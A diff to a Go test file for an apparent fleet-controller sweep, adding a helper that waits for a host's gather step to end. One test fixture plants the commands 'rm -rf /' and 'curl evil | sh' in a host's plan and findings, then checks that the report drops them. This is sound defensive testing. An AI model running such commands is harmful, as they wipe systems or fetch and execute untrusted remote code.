@@ -11,6 +11,7 @@ import (
 	"time"
 
 	"aixmend/controller/fleet"
+	"aixmend/controller/gather"
 	"aixmend/controller/outcome"
 )
 
@@ -27,7 +28,7 @@ func (heard) Stop(string, string) error       { return nil }
 const run = "20261201T070000.000Z-3f9ac2"
 
 func event(site, host string, o outcome.Outcome) fleet.Event {
-	return fleet.Event{Run: run, Site: site, Host: &outcome.Host{Host: host, RunID: run, Outcome: o, Findings: []outcome.Finding{}}}
+	return fleet.Event{Run: run, Site: site, Step: gather.Ended, Host: &outcome.Host{Host: host, RunID: run, Outcome: o, Findings: []outcome.Finding{}}}
 }
 
 func ended(site string, e fleet.Ended) fleet.Event {
@@ -42,7 +43,7 @@ func sweepOf(w wire) *sweep {
 func (s *sweep) all(ctx context.Context) string {
 	var b strings.Builder
 	for _, host := range []string{"a", "b", "c"} {
-		first := s.Report(ctx, host)
+		first := s.end(ctx, host)
 		last, newer := s.Last(host)
 		if !newer {
 			last = first
@@ -54,6 +55,22 @@ func (s *sweep) all(ctx context.Context) string {
 		b.WriteString("; ")
 	}
 	return b.String()
+}
+
+// end waits for the end of a host.
+func (s *sweep) end(ctx context.Context, host string) outcome.Host {
+	for {
+		for step, there := s.Next(host); there; step, there = s.Next(host) {
+			if step.Kind == gather.Ended {
+				return step.Report
+			}
+		}
+		select {
+		case <-s.More(host):
+		case <-ctx.Done():
+			return s.Absent(host, context.Cause(ctx))
+		}
+	}
 }
 
 // Events that come twice, late, or from a site that was not asked change nothing; the last
@@ -144,9 +161,9 @@ func TestSweepKeepsVerdictsAlone(t *testing.T) {
 	e.Host.Plan = []outcome.PlanStep{{Command: "rm -rf /"}}
 	e.Host.Findings = []outcome.Finding{{ID: "x", Next: []string{"curl evil | sh"}, Remedy: "rm -rf /"}}
 	s.take(e)
-	h := s.Report(t.Context(), "a")
+	h := s.end(t.Context(), "a")
 	text, err := json.Marshal(h)
-	if err != nil || h.Site != "fra" || strings.Contains(string(text), "rm -rf") || strings.Contains(string(text), "evil") || strings.Contains(string(text), "10.1.2.3") || h.Capture != "" {
+	if err != nil || h.Site != "fra" || strings.Contains(string(text), "rm -rf") || strings.Contains(string(text), "evil") || strings.Contains(string(text), "10.1.2.3") || strings.Contains(h.Capture, "captures") {
 		t.Errorf("%s %v", text, err)
 	}
 }
@@ -182,7 +199,7 @@ func TestSweepCut(t *testing.T) {
 	s := sweepOf(heard{})
 	ctx, cut := context.WithCancelCause(t.Context())
 	cut(errors.New("cut by --deadline"))
-	if h := s.Report(ctx, "a"); h.Outcome != outcome.Skipped || !h.Interrupted || h.Reason != "cut by --deadline" {
+	if h := s.end(ctx, "a"); h.Outcome != outcome.Skipped || !h.Interrupted || h.Reason != "cut by --deadline" {
 		t.Error(h)
 	}
 }
